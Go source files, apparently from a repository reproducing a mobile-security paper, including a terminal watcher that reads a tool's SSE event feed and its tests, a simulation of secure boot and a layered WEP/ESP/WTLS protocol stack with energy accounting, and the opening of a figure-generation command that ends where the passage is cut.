		resp.Body.Close()
		return nil, fmt.Errorf("%s/events: %s", base, resp.Status)
	}
	return resp.Body, nil
}

// streamLoop reads SSE events from successive connections established
// by dial, reconnecting with pol's capped exponential backoff. A
// successful connection resets the failure budget; maxFails
// consecutive failures (or, with maxFails 0, the first stream end)
// stop the loop. sleep may be nil (time.Sleep) — tests inject a
// recorder to pin the reconnect schedule. Returns whether any
// connection ever succeeded.
func streamLoop(dial func() (io.ReadCloser, error), handle func(sseEvent),
	maxFails int, pol backoff.Policy, sleep func(time.Duration), logf func(string)) bool {
	if sleep == nil {
		sleep = time.Sleep
	}
	ever := false
	fails := 0
	for attempt := 0; ; attempt++ {
		body, err := dial()
		if err == nil {
			ever = true
			fails = 0
			attempt = -1 // next delay (if any) restarts the schedule
			if rerr := readSSE(body, handle); rerr != nil && rerr != io.EOF && logf != nil {
				logf("stream: " + rerr.Error())
			}
			body.Close()
			if maxFails <= 0 {
				return ever // reconnecting disabled: first stream end is final
			}
			if logf != nil {
				logf("stream ended — reconnecting")
			}
			continue
		}
		fails++
		if logf != nil {
			logf(fmt.Sprintf("connect (%d/%d): %v", fails, maxFails, err))
		}
		if maxFails <= 0 || fails >= maxFails {
			return ever
		}
		sleep(pol.Delay(attempt))
	}
}

// pollProgress fetches /progress on a fixed period and hands payloads to
// the view, which deduplicates unchanged states. Connection errors and
// non-200s are tolerated (the watched tool may be between restarts);
// polling runs until stop closes.
func pollProgress(base string, every time.Duration, v *view, stop <-chan struct{}) {
	tick := time.NewTicker(every)
	defer tick.Stop()
	for {
		select {
		case <-stop:
			return
		case <-tick.C:
		}
		resp, err := http.Get(base + "/progress")
		if err != nil {
			continue
		}
		if resp.StatusCode != http.StatusOK {
			resp.Body.Close()
			continue
		}
		payload, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
		resp.Body.Close()
		if err != nil {
			continue
		}
		v.progress(payload)
	}
}
