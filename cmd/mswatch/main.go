// Command mswatch follows a running tool's observability server (the
// -pprof endpoint any cmd in this repo exposes) from another terminal:
// it streams the /events SSE feed — journal events and SLO alerts — and
// polls /progress for live sweep status, rendering both as plain lines
// so it works over a pipe as well as a terminal.
//
// Typical use:
//
//	lossfig -simulate -pprof localhost:6060 &
//	mswatch -addr localhost:6060
package main

import (
	"flag"
	"fmt"
	"io"
	"net/http"
	"os"
	"time"

	"repro/internal/obs/journal"
)

func main() {
	addr := flag.String("addr", "localhost:6060", "obs server address (host:port) of the tool to watch")
	level := flag.String("level", "info", "minimum journal level to print: debug, info, warn or crit")
	progEvery := flag.Duration("progress-interval", 500*time.Millisecond, "sweep progress poll period (0 disables)")
	verbose := flag.Bool("v", false, "also print metric deltas and the connection handshake")
	flag.Parse()

	min, err := journal.ParseLevel(*level)
	if err != nil {
		fmt.Fprintf(os.Stderr, "mswatch: -level: %v\n", err)
		os.Exit(2)
	}
	v := &view{w: os.Stdout, min: min, verbose: *verbose}

	base := "http://" + *addr
	resp, err := http.Get(base + "/events")
	if err != nil {
		fmt.Fprintf(os.Stderr, "mswatch: connecting to %s: %v\n", base, err)
		os.Exit(1)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		fmt.Fprintf(os.Stderr, "mswatch: %s/events: %s\n", base, resp.Status)
		os.Exit(1)
	}

	if *progEvery > 0 {
		go pollProgress(base, *progEvery, v)
	}

	if err := readSSE(resp.Body, v.handle); err != nil && err != io.EOF {
		fmt.Fprintf(os.Stderr, "mswatch: stream: %v\n", err)
		os.Exit(1)
	}
	// The watched tool exited (server closed the stream) — normal end.
}

// pollProgress fetches /progress on a fixed period and hands payloads to
// the view, which deduplicates unchanged states. A 404 means the watched
// tool registered no sweep progress source; polling stops quietly.
func pollProgress(base string, every time.Duration, v *view) {
	tick := time.NewTicker(every)
	defer tick.Stop()
	for range tick.C {
		resp, err := http.Get(base + "/progress")
		if err != nil {
			return
		}
		if resp.StatusCode != http.StatusOK {
			resp.Body.Close()
			return
		}
		payload, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
		resp.Body.Close()
		if err != nil {
			return
		}
		v.progress(payload)
	}
}
