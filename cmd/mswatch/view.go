package main

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"sort"
	"strconv"
	"strings"

	"repro/internal/obs/journal"
)

// sseEvent is one parsed Server-Sent-Events frame.
type sseEvent struct {
	name string
	data string
}

// readSSE parses SSE frames from r and invokes fn for each one. Frames
// are `event:`/`data:` line groups separated by blank lines; multi-line
// data concatenates with newlines, comment lines (leading ':') are
// ignored. Returns nil on EOF.
func readSSE(r io.Reader, fn func(sseEvent)) error {
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64*1024), 1<<20)
	var ev sseEvent
	var data []string
	flush := func() {
		if ev.name == "" && len(data) == 0 {
			return
		}
		ev.data = strings.Join(data, "\n")
		fn(ev)
		ev = sseEvent{}
		data = nil
	}
	for sc.Scan() {
		line := sc.Text()
		switch {
		case line == "":
			flush()
		case strings.HasPrefix(line, ":"):
			// comment / keep-alive
		case strings.HasPrefix(line, "event:"):
			ev.name = strings.TrimSpace(line[len("event:"):])
		case strings.HasPrefix(line, "data:"):
			data = append(data, strings.TrimSpace(line[len("data:"):]))
		}
	}
	flush()
	return sc.Err()
}

// view renders the watched tool's event stream as terminal lines: one
// line per journal event at or above the minimum level, ALERT lines for
// fired SLO rules, and a refreshing sweep-progress line.
type view struct {
	w       io.Writer
	min     journal.Level
	verbose bool

	lastProgress string
	intervalMS   float64 // metric push period from the hello frame

	slow     []slowSession // slowest traced sessions seen, descending
	lastSlow string
}

// handle dispatches one SSE frame.
func (v *view) handle(ev sseEvent) {
	switch ev.name {
	case "journal":
		e, err := journal.ParseLine([]byte(ev.data))
		if err != nil {
			fmt.Fprintf(v.w, "mswatch: bad journal line: %v\n", err)
			return
		}
		if line := v.formatJournal(e); line != "" {
			fmt.Fprintln(v.w, line)
		}
		v.trackSlow(e)
	case "metrics":
		if v.verbose {
			fmt.Fprintf(v.w, "metrics %s\n", ev.data)
		}
		if line := v.formatRates(ev.data); line != "" {
			fmt.Fprintln(v.w, line)
		}
	case "hello":
		if ms, ok := jsonNumber([]byte(ev.data), "metric_interval_ms"); ok {
			v.intervalMS = ms
		}
		if v.verbose {
			fmt.Fprintf(v.w, "connected %s\n", ev.data)
		}
	}
}

// maxRateEntries caps how many metrics one rates line shows; the rest
// collapse into a "+N more" suffix so a busy gateway stays readable.
const maxRateEntries = 6

// formatRates turns one metrics delta frame into a live rates line:
// counter deltas scaled to per-second by the push interval from the
// hello frame, gauges at their current value. Entries render in sorted
// name order, counters first.
func (v *view) formatRates(data string) string {
	var d struct {
		Counters  map[string]int64   `json:"counters"`
		Gauges    map[string]float64 `json:"gauges"`
		Truncated int                `json:"truncated"`
	}
	if err := json.Unmarshal([]byte(data), &d); err != nil {
		return ""
	}
	perSec := 1.0
	if v.intervalMS > 0 {
		perSec = 1000 / v.intervalMS
	}
	var entries []string
	for _, name := range sortedKeys(d.Counters) {
		entries = append(entries, fmt.Sprintf("%s %.3g/s", name, float64(d.Counters[name])*perSec))
	}
	for _, name := range sortedKeys(d.Gauges) {
		entries = append(entries, fmt.Sprintf("%s=%g", name, d.Gauges[name]))
	}
	if len(entries) == 0 {
		return ""
	}
	extra := d.Truncated
	if len(entries) > maxRateEntries {
		extra += len(entries) - maxRateEntries
		entries = entries[:maxRateEntries]
	}
	line := "rates: " + strings.Join(entries, ", ")
	if extra > 0 {
		line += fmt.Sprintf(" (+%d more)", extra)
	}
	return line
}

func sortedKeys[V any](m map[string]V) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}

// formatJournal renders one journal event, or "" when it is below the
// view's minimum level. SLO firings always render, as ALERT lines.
func (v *view) formatJournal(e journal.Event) string {
	if e.Layer == "slo" && e.Name == "slo_fired" {
		return formatAlert(e)
	}
	if e.Level < v.min {
		return ""
	}
	var b strings.Builder
	fmt.Fprintf(&b, "[%-5s] %s/%s t=%d", e.Level, e.Layer, e.Name, e.TSim)
	for _, f := range e.Fields {
		b.WriteByte(' ')
		b.WriteString(f.K)
		b.WriteByte('=')
		b.WriteString(e.Get(f.K))
	}
	return b.String()
}

// slowSession is one traced session in the live slowest table: its
// distributed-trace ID (the handle to pull the full waterfall up with
// msreport -dtrace) and its duration.
type slowSession struct {
	trace string
	durUS int64
}

// maxSlow caps the live slowest-sessions table.
const maxSlow = 5

// trackSlow watches wide per-session events that carry a trace_id and
// keeps the slowest ones, reprinting the table whenever the set
// changes — so the trace IDs worth investigating surface while the run
// is still going.
func (v *view) trackSlow(e journal.Event) {
	if e.Name != "session" {
		return
	}
	trace := e.Get("trace_id")
	if trace == "" {
		return
	}
	dur := e.Get("duration_us")
	if dur == "" {
		dur = e.Get("handshake_us")
	}
	us, err := strconv.ParseInt(dur, 10, 64)
	if err != nil {
		return
	}
	v.slow = append(v.slow, slowSession{trace: trace, durUS: us})
	sort.SliceStable(v.slow, func(i, j int) bool { return v.slow[i].durUS > v.slow[j].durUS })
	if len(v.slow) > maxSlow {
		v.slow = v.slow[:maxSlow]
	}
	var parts []string
	for _, s := range v.slow {
		parts = append(parts, fmt.Sprintf("%s %dµs", s.trace, s.durUS))
	}
	line := "slowest traced sessions: " + strings.Join(parts, ", ")
	if line != v.lastSlow {
		v.lastSlow = line
		fmt.Fprintln(v.w, line)
	}
}

// formatAlert renders a fired SLO rule.
func formatAlert(e journal.Event) string {
	line := fmt.Sprintf("ALERT [%s] rule=%s %s = %s %s %s",
		strings.ToUpper(e.Get("severity")), e.Get("rule"),
		e.Get("metric"), e.Get("value"), e.Get("op"), e.Get("threshold"))
	if r := e.Get("reason"); r != "" {
		line += " (" + r + ")"
	}
	return line
}

// progress renders one /progress payload; repeated identical states are
// suppressed so an idle tool doesn't scroll the terminal.
func (v *view) progress(payload []byte) {
	line, err := formatProgress(payload)
	if err != nil || line == "" || line == v.lastProgress {
		return
	}
	v.lastProgress = line
	fmt.Fprintln(v.w, line)
}

// formatProgress turns the /progress JSON into a one-line status, or ""
// when no sweep has started yet.
func formatProgress(payload []byte) (string, error) {
	get := func(key string) (float64, bool) { return jsonNumber(payload, key) }
	total, ok := get("total")
	if !ok {
		return "", fmt.Errorf("mswatch: progress payload missing total")
	}
	if total == 0 {
		return "", nil
	}
	done, _ := get("done")
	sweep, _ := get("sweep")
	workers, _ := get("workers")
	rate, _ := get("tasks_per_sec")
	eta, _ := get("eta_ms")
	active, _ := jsonBool(payload, "active")

	pct := 100 * done / total
	line := fmt.Sprintf("sweep %d: %d/%d tasks (%.1f%%), %d workers",
		int64(sweep), int64(done), int64(total), pct, int64(workers))
	if rate > 0 {
		line += fmt.Sprintf(", %.0f tasks/s", rate)
	}
	if active && eta >= 0 {
		line += fmt.Sprintf(", eta %.1fs", eta/1000)
	}
	if !active {
		line += " [done]"
	}
	return line, nil
}

// jsonNumber pulls a top-level numeric field out of a flat JSON object
// without decoding the whole document (the progress payload is flat and
// machine-generated, so a scan is safe and allocation-free).
func jsonNumber(payload []byte, key string) (float64, bool) {
	raw, ok := jsonRaw(payload, key)
	if !ok {
		return 0, false
	}
	v, err := strconv.ParseFloat(raw, 64)
	if err != nil {
		return 0, false
	}
	return v, true
}

// jsonBool pulls a top-level boolean field out of a flat JSON object.
func jsonBool(payload []byte, key string) (bool, bool) {
	raw, ok := jsonRaw(payload, key)
	if !ok {
		return false, false
	}
	return raw == "true", true
}

// jsonRaw finds the raw value text of a top-level key in a flat JSON
// object: everything between the key's colon and the next ',' or '}'.
func jsonRaw(payload []byte, key string) (string, bool) {
	needle := `"` + key + `":`
	i := strings.Index(string(payload), needle)
	if i < 0 {
		return "", false
	}
	rest := string(payload[i+len(needle):])
	end := strings.IndexAny(rest, ",}")
	if end < 0 {
		end = len(rest)
	}
	return strings.TrimSpace(rest[:end]), true
}
