package main

import (
	"strings"
	"testing"

	"repro/internal/obs/journal"
)

func TestReadSSE(t *testing.T) {
	stream := "event: hello\ndata: {\"metric_interval_ms\":1000}\n\n" +
		": keep-alive comment\n" +
		"event: journal\ndata: {\"t_sim\":3,\"level\":\"warn\",\"layer\":\"wep\",\"event\":\"icv_failure\"}\n\n" +
		"event: metrics\ndata: {\"counters\":{\"arq.retransmits\":2},\"gauges\":{}}\n\n"
	var got []sseEvent
	if err := readSSE(strings.NewReader(stream), func(ev sseEvent) { got = append(got, ev) }); err != nil {
		t.Fatalf("readSSE: %v", err)
	}
	if len(got) != 3 {
		t.Fatalf("got %d frames, want 3: %+v", len(got), got)
	}
	wantNames := []string{"hello", "journal", "metrics"}
	for i, w := range wantNames {
		if got[i].name != w {
			t.Errorf("frame %d name = %q, want %q", i, got[i].name, w)
		}
	}
	if !strings.Contains(got[1].data, `"icv_failure"`) {
		t.Errorf("journal frame data = %q", got[1].data)
	}
}

func TestReadSSEMultiLineData(t *testing.T) {
	stream := "event: x\ndata: line1\ndata: line2\n\n"
	var got []sseEvent
	if err := readSSE(strings.NewReader(stream), func(ev sseEvent) { got = append(got, ev) }); err != nil {
		t.Fatalf("readSSE: %v", err)
	}
	if len(got) != 1 || got[0].data != "line1\nline2" {
		t.Fatalf("got %+v, want one frame with joined data", got)
	}
}

func TestViewJournalFormatting(t *testing.T) {
	var sb strings.Builder
	v := &view{w: &sb, min: journal.LevelInfo}

	// Below min level: suppressed.
	v.handle(sseEvent{name: "journal",
		data: `{"t_sim":1,"level":"debug","layer":"par","event":"task_start"}`})
	// At level: rendered with fields.
	v.handle(sseEvent{name: "journal",
		data: `{"t_sim":50,"level":"info","layer":"energy","event":"battery_milestone","kv":{"pct":50,"drained_j":13000.5}}`})
	// SLO firing: ALERT line regardless of level.
	v.handle(sseEvent{name: "journal",
		data: `{"t_sim":-1,"level":"warn","layer":"slo","event":"slo_fired","kv":{"rule":"battery-gap","severity":"warn","metric":"core.battery_relative.secure_rsa","value":0.73,"op":"<","threshold":0.8,"reason":"Fig 4 gap"}}`})

	out := sb.String()
	if strings.Contains(out, "task_start") {
		t.Errorf("debug event should be suppressed at info level:\n%s", out)
	}
	if !strings.Contains(out, "[info ] energy/battery_milestone t=50 pct=50 drained_j=13000.5") {
		t.Errorf("milestone line missing or malformed:\n%s", out)
	}
	if !strings.Contains(out, "ALERT [WARN] rule=battery-gap core.battery_relative.secure_rsa = 0.73 < 0.8 (Fig 4 gap)") {
		t.Errorf("alert line missing or malformed:\n%s", out)
	}
}

// TestViewMetricsRates pins the live Δ/s line: counter deltas scale by
// the hello frame's push interval, entries are name-sorted with
// counters first, and overflow collapses into "+N more".
func TestViewMetricsRates(t *testing.T) {
	var sb strings.Builder
	v := &view{w: &sb, min: journal.LevelInfo}
	v.handle(sseEvent{name: "hello", data: `{"metric_interval_ms":500}`})
	v.handle(sseEvent{name: "metrics",
		data: `{"counters":{"wtls.records":40,"arq.retx":3},"gauges":{"gw.active":5}}`})
	out := sb.String()
	if !strings.Contains(out, "rates: arq.retx 6/s, wtls.records 80/s, gw.active=5") {
		t.Errorf("rates line missing or misordered:\n%s", out)
	}

	// Overflow: 7 counters at cap 6, plus 2 server-side truncations.
	sb.Reset()
	v.handle(sseEvent{name: "metrics",
		data: `{"counters":{"a":1,"b":1,"c":1,"d":1,"e":1,"f":1,"g":1},"truncated":2}`})
	out = sb.String()
	if !strings.Contains(out, "(+3 more)") {
		t.Errorf("overflow suffix missing (want +3: 1 local + 2 server):\n%s", out)
	}
	if strings.Contains(out, "g 2/s") {
		t.Errorf("entry past the cap rendered:\n%s", out)
	}

	// Empty delta frame: no line.
	sb.Reset()
	v.handle(sseEvent{name: "metrics", data: `{"counters":{},"gauges":{}}`})
	if sb.Len() != 0 {
		t.Errorf("empty metrics frame produced output: %q", sb.String())
	}
}

func TestFormatProgress(t *testing.T) {
	line, err := formatProgress([]byte(`{"active":true,"sweep":2,"total":128,"done":37,"workers":4,"per_worker":[10,9,9,9],"elapsed_ms":120,"eta_ms":295,"tasks_per_sec":308.3}`))
	if err != nil {
		t.Fatalf("formatProgress: %v", err)
	}
	for _, want := range []string{"sweep 2:", "37/128", "28.9%", "4 workers", "308 tasks/s", "eta 0.3s"} {
		if !strings.Contains(line, want) {
			t.Errorf("progress line %q missing %q", line, want)
		}
	}

	line, err = formatProgress([]byte(`{"active":false,"sweep":2,"total":128,"done":128,"workers":4,"per_worker":[32,32,32,32],"elapsed_ms":400,"eta_ms":0,"tasks_per_sec":320}`))
	if err != nil {
		t.Fatalf("formatProgress: %v", err)
	}
	if !strings.Contains(line, "[done]") {
		t.Errorf("finished sweep line %q missing [done]", line)
	}

	// No sweep yet: nothing to show.
	line, err = formatProgress([]byte(`{"active":false,"total":0,"done":0}`))
	if err != nil || line != "" {
		t.Errorf("idle payload: line=%q err=%v, want empty/nil", line, err)
	}
}

func TestViewProgressDedup(t *testing.T) {
	var sb strings.Builder
	v := &view{w: &sb, min: journal.LevelInfo}
	payload := []byte(`{"active":true,"sweep":1,"total":10,"done":5,"workers":2,"per_worker":[3,2],"elapsed_ms":10,"eta_ms":10,"tasks_per_sec":500}`)
	v.progress(payload)
	v.progress(payload)
	if n := strings.Count(sb.String(), "sweep 1:"); n != 1 {
		t.Errorf("identical progress printed %d times, want 1:\n%s", n, sb.String())
	}
}

// TestViewSlowestTracedSessions pins the live slowest-sessions table:
// wide session events carrying a trace_id rank by duration (falling
// back to handshake time for client events), cap at maxSlow, and the
// line reprints only when the ranking changes.
func TestViewSlowestTracedSessions(t *testing.T) {
	var sb strings.Builder
	v := &view{w: &sb, min: journal.LevelCrit} // suppress the event lines themselves

	// No trace_id: ignored.
	v.handle(sseEvent{name: "journal",
		data: `{"t_sim":1,"level":"info","layer":"gateway","event":"session","kv":{"duration_us":9999}}`})
	if strings.Contains(sb.String(), "slowest") {
		t.Fatalf("untraced session entered the table:\n%s", sb.String())
	}

	v.handle(sseEvent{name: "journal",
		data: `{"t_sim":2,"level":"info","layer":"gateway","event":"session","kv":{"trace_id":"00000000000000aa","duration_us":500}}`})
	if !strings.Contains(sb.String(), "slowest traced sessions: 00000000000000aa 500µs") {
		t.Fatalf("first traced session missing:\n%s", sb.String())
	}

	// A slower one takes the head; a client event ranks by handshake_us.
	v.handle(sseEvent{name: "journal",
		data: `{"t_sim":3,"level":"info","layer":"gateway","event":"session","kv":{"trace_id":"00000000000000bb","duration_us":2000}}`})
	v.handle(sseEvent{name: "journal",
		data: `{"t_sim":4,"level":"info","layer":"load","event":"session","kv":{"trace_id":"00000000000000cc","handshake_us":1000}}`})
	out := sb.String()
	if !strings.Contains(out, "00000000000000bb 2000µs, 00000000000000cc 1000µs, 00000000000000aa 500µs") {
		t.Fatalf("ranking wrong:\n%s", out)
	}

	// Fill past the cap: the slowest five survive, the 500µs one falls off.
	for i := 0; i < maxSlow; i++ {
		v.handle(sseEvent{name: "journal",
			data: `{"t_sim":5,"level":"info","layer":"gateway","event":"session","kv":{"trace_id":"00000000000000dd","duration_us":3000}}`})
	}
	last := sb.String()[strings.LastIndex(sb.String(), "slowest"):]
	if strings.Contains(last, "00000000000000aa") {
		t.Fatalf("table did not cap at %d:\n%s", maxSlow, last)
	}

	// An identical update must not reprint.
	lines := strings.Count(sb.String(), "slowest traced sessions:")
	v.handle(sseEvent{name: "journal",
		data: `{"t_sim":6,"level":"info","layer":"gateway","event":"session","kv":{"trace_id":"00000000000000ee","duration_us":1}}`})
	if got := strings.Count(sb.String(), "slowest traced sessions:"); got != lines {
		t.Fatalf("unchanged table reprinted: %d -> %d lines", lines, got)
	}
}
