// Command secsim runs the full platform simulation: a handset (Figure 6
// base architecture) securely boots, brings up the layered protocol
// hierarchy of Figure 5 (WEP link security, ESP network security, WTLS
// transport security), completes an m-commerce style transaction with a
// gateway, and prints the security-processing and energy bill.
//
// With -concerns it prints the Figure 1 taxonomy and which module of this
// repository realizes each concern.
package main

import (
	"flag"
	"fmt"
	"hash"
	"io"
	"os"

	mobilesec "repro"
	"repro/internal/cost"
	"repro/internal/crypto/des"
	"repro/internal/crypto/prng"
	"repro/internal/crypto/sha1"
	"repro/internal/esp"
	"repro/internal/obs"
	_ "repro/internal/obs/ts" // series recorder for -series
	"repro/internal/see"
	"repro/internal/stack"
	"repro/internal/wep"
	"repro/internal/wtls"
)

func main() {
	concerns := flag.Bool("concerns", false, "print the Figure 1 security-concern taxonomy and exit")
	cpuName := flag.String("cpu", "ARM7-cell-phone", "handset processor from the catalog")
	accel := flag.String("arch", "sw-only", "architecture: sw-only, isa-ext, crypto-accel, protocol-engine")
	kbytes := flag.Int("kb", 16, "application kilobytes to transfer")
	o := obs.BindFlags(flag.CommandLine)
	flag.Parse()
	if err := o.Activate(); err != nil {
		fmt.Fprintf(os.Stderr, "secsim: %v\n", err)
		os.Exit(1)
	}
	defer o.Close()

	if *concerns {
		fmt.Println("Figure 1 — security concerns in a mobile appliance")
		for _, c := range mobilesec.Concerns() {
			fmt.Printf("  %-28s %s\n  %-28s realized by %s\n", c.Name, c.Description, "", c.RealizedBy)
		}
		o.Finish("secsim")
		return
	}
	if err := run(*cpuName, *accel, *kbytes); err != nil {
		fmt.Fprintf(os.Stderr, "secsim: %v\n", err)
		os.Exit(1)
	}
	o.Finish("secsim")
}

func pickArch(cpu *mobilesec.Processor, name string) (*mobilesec.Architecture, error) {
	switch name {
	case "sw-only":
		return mobilesec.SoftwareOnly(cpu), nil
	case "isa-ext":
		return mobilesec.WithISAExtensions(cpu), nil
	case "crypto-accel":
		return mobilesec.WithCryptoAccelerator(cpu), nil
	case "protocol-engine":
		return mobilesec.WithProtocolEngine(cpu), nil
	default:
		return nil, fmt.Errorf("unknown architecture %q", name)
	}
}

func run(cpuName, archName string, kbytes int) error {
	cpu, err := mobilesec.ProcessorByName(cpuName)
	if err != nil {
		return err
	}
	arch, err := pickArch(cpu, archName)
	if err != nil {
		return err
	}
	radio, err := mobilesec.NewWLANRadio(2)
	if err != nil {
		return err
	}
	platform, err := mobilesec.NewPlatform(mobilesec.PlatformConfig{
		Name: "handset", Arch: arch, BatteryJ: 10_000, Radio: radio,
		Seed: []byte("secsim"),
	})
	if err != nil {
		return err
	}

	// Secure boot (Figure 6 / Section 4.1).
	images := []*see.Image{
		{Name: "bootloader", Code: []byte("stage-1 loader")},
		{Name: "os", Code: []byte("handset kernel")},
		{Name: "wallet", Code: []byte("m-commerce trusted app")},
	}
	rom, err := mobilesec.BuildBootChain(images)
	if err != nil {
		return err
	}
	bootRep, err := platform.SecureBoot(rom, images)
	if err != nil {
		return err
	}
	fmt.Printf("secure boot: %d stages verified (%v)\n\n", len(bootRep.Stages), bootRep.Stages)

	// PKI.
	ca, err := mobilesec.NewCA("OperatorRoot", mobilesec.NewDRBG([]byte("ca")), 512)
	if err != nil {
		return err
	}
	serverKey, err := mobilesec.GenerateRSAKey(mobilesec.NewDRBG([]byte("gw")), 512)
	if err != nil {
		return err
	}
	cert, err := ca.Issue("wap.gateway", 1, &serverKey.PublicKey)
	if err != nil {
		return err
	}

	// Figure 5 hierarchy: WEP below, ESP in the middle, WTLS on top.
	handsetSide, gatewaySide := mobilesec.NewDuplexPipe()
	handsetStack, err := buildStack(handsetSide, "h2g", "g2h")
	if err != nil {
		return err
	}
	gatewayStack, err := buildStack(gatewaySide, "g2h", "h2g")
	if err != nil {
		return err
	}

	client := mobilesec.WTLSClient(handsetStack.Top(), &mobilesec.Config{
		Rand:       mobilesec.NewDRBG([]byte("client")),
		RootCA:     &ca.Key.PublicKey,
		ServerName: "wap.gateway",
	})
	server := mobilesec.WTLSServer(gatewayStack.Top(), &mobilesec.Config{
		Rand:        mobilesec.NewDRBG([]byte("server")),
		Certificate: cert,
		PrivateKey:  serverKey,
	})

	srvErr := make(chan error, 1)
	payload := kbytes * 1024
	go func() {
		if err := server.Handshake(); err != nil {
			srvErr <- err
			return
		}
		buf := make([]byte, 4096)
		received := 0
		for received < payload {
			n, err := server.Read(buf)
			if err != nil {
				srvErr <- err
				return
			}
			received += n
		}
		// Echo a short receipt.
		_, err := server.Write([]byte("PAYMENT-ACK"))
		srvErr <- err
	}()

	if err := client.Handshake(); err != nil {
		return fmt.Errorf("handshake: %w", err)
	}
	st := client.State()
	fmt.Printf("WTLS handshake complete: suite %s (resumed=%v)\n", st.Suite.Name, st.Resumed)

	msg := make([]byte, payload)
	if _, err := client.Write(msg); err != nil {
		return err
	}
	ack := make([]byte, 11)
	if _, err := io.ReadFull(client, ack); err != nil {
		return err
	}
	if err := <-srvErr; err != nil {
		return fmt.Errorf("gateway: %w", err)
	}
	fmt.Printf("transferred %d KB, gateway answered %q\n\n", kbytes, ack)

	// Per-layer accounting (Figure 5).
	fmt.Println("layered stack accounting (handset side):")
	fmt.Printf("  %-6s %12s %12s %14s\n", "layer", "payload out", "wire out", "instr (model)")
	for _, s := range handsetStack.Report() {
		fmt.Printf("  %-6s %12d %12d %14.0f\n", s.Name, s.PayloadOut, s.FrameOut, s.Instr)
	}

	// Platform bill: WTLS metrics + stack instruction cost + wire bytes.
	m := client.Metrics()
	m.BulkInstr += handsetStack.TotalInstr()
	wireOut := handsetStack.WireBytesOut()
	wireIn := gatewayStack.WireBytesOut()
	rep, err := platform.AccountSession(m, wireOut, wireIn)
	if err != nil {
		return err
	}
	fmt.Printf("\nplatform bill on %s / %s:\n", cpu.Name, arch.Name)
	fmt.Printf("  effective instructions  %14.0f\n", rep.EffectiveInstr)
	fmt.Printf("  CPU time                %14.3f s\n", rep.CPUTimeSec)
	fmt.Printf("  airtime                 %14.3f s\n", rep.AirtimeSec)
	fmt.Printf("  CPU energy              %14.4f J\n", rep.CPUEnergyJ)
	fmt.Printf("  radio energy            %14.4f J\n", rep.RadioEnergyJ)
	fmt.Printf("  battery remaining       %14.1f J\n", rep.BatteryLeftJ)
	fmt.Printf("  sessions per charge     %14d\n", platform.SessionsUntilFlat(rep))
	fmt.Println()
	fmt.Print(platform.DescribePlatform())
	return nil
}

// buildStack assembles WEP + ESP under the given transport.
func buildStack(transport io.ReadWriter, txSeed, rxSeed string) (*mobilesec.Stack, error) {
	s := mobilesec.NewStack(transport)
	wepEP, err := wep.NewEndpoint([]byte{0x13, 0x22, 0x31, 0x40, 0x5F}, wep.IVSequential)
	if err != nil {
		return nil, err
	}
	if err := s.Push("wep", wepEP, cost.InstrPerByte(cost.RC4)+4); err != nil {
		return nil, err
	}
	mkSA := func(seed string) (*esp.SA, error) {
		block, err := des.NewTripleCipher([]byte("twenty-four byte esp key"))
		if err != nil {
			return nil, err
		}
		sa, err := esp.NewSA(0x5afe, block, func() hash.Hash { return sha1.New() },
			[]byte("esp-integrity-key"), prng.NewDRBG([]byte(seed)))
		if err != nil {
			return nil, err
		}
		sa.SetCostModel(cost.DES3, cost.SHA1)
		return sa, nil
	}
	out, err := mkSA(txSeed)
	if err != nil {
		return nil, err
	}
	in, err := mkSA(rxSeed)
	if err != nil {
		return nil, err
	}
	if err := s.Push("esp", &stack.ESPPair{Out: out, In: in},
		cost.BulkInstrPerByte(cost.DES3, cost.SHA1)); err != nil {
		return nil, err
	}
	_ = wtls.AlertCloseNotify
	return s, nil
}
