// Command gapfig regenerates Figure 3 of the paper: the wireless security
// processing gap — the MIPS a security protocol demands across connection
// latencies and data rates, against an embedded processor's supply plane —
// plus the Section 4.2 accelerator ablation that closes the gap.
package main

import (
	"flag"
	"fmt"
	"os"
	"runtime"

	mobilesec "repro"
	"repro/internal/cost"
	"repro/internal/obs"
	_ "repro/internal/obs/ts" // series recorder for -series
	"repro/internal/par"
)

func main() {
	plane := flag.Float64("plane", 300, "supply plane in MIPS (the paper draws 300)")
	cipher := flag.String("cipher", "3des", "bulk cipher: 3des, des, aes128, rc4, rc2")
	mac := flag.String("mac", "sha1", "MAC hash: sha1, md5")
	handshake := flag.String("handshake", "rsa1024", "connection set-up: rsa1024, rsa768, rsa512, dh1024, resume")
	ablate := flag.Bool("ablation", true, "also print the accelerator ablation (experiment B1)")
	csv := flag.Bool("csv", false, "emit the surface as CSV for external plotting and exit")
	workers := flag.Int("workers", runtime.GOMAXPROCS(0),
		"sweep worker count; output is identical at any value, 1 runs sequentially")
	o := obs.BindFlags(flag.CommandLine)
	flag.Parse()
	par.SetDefaultWorkers(*workers)
	if err := o.Activate(); err != nil {
		fmt.Fprintf(os.Stderr, "gapfig: %v\n", err)
		os.Exit(1)
	}
	defer o.Close()

	s, err := mobilesec.ComputeGapSurfaceFor(
		mobilesec.DefaultLatencies(), mobilesec.DefaultRates(), *plane,
		cost.HandshakeKind(*handshake), cost.Algorithm(*cipher), cost.Algorithm(*mac))
	if err != nil {
		fmt.Fprintf(os.Stderr, "gapfig: %v\n", err)
		os.Exit(1)
	}
	if *csv {
		fmt.Print(s.CSV())
		o.Finish("gapfig")
		return
	}
	fmt.Print(s.Render())

	fmt.Println("\nprocessor catalog vs the same workload (max sustainable Mbps at 0.5 s latency):")
	for _, cpu := range mobilesec.ProcessorCatalog() {
		arch := mobilesec.SoftwareOnly(cpu)
		rate, err := arch.MaxRateMbps(0.5, cost.HandshakeKind(*handshake),
			cost.Algorithm(*cipher), cost.Algorithm(*mac))
		if err != nil {
			fmt.Fprintf(os.Stderr, "gapfig: %v\n", err)
			os.Exit(1)
		}
		fmt.Printf("  %-20s %7.1f MIPS  -> %8.2f Mbps\n", cpu.Name, cpu.MIPS, rate)
	}

	if *ablate {
		cpu, err := mobilesec.ProcessorByName("StrongARM-SA1100")
		if err != nil {
			fmt.Fprintf(os.Stderr, "gapfig: %v\n", err)
			os.Exit(1)
		}
		rows, err := mobilesec.AcceleratorAblation(cpu)
		if err != nil {
			fmt.Fprintf(os.Stderr, "gapfig: %v\n", err)
			os.Exit(1)
		}
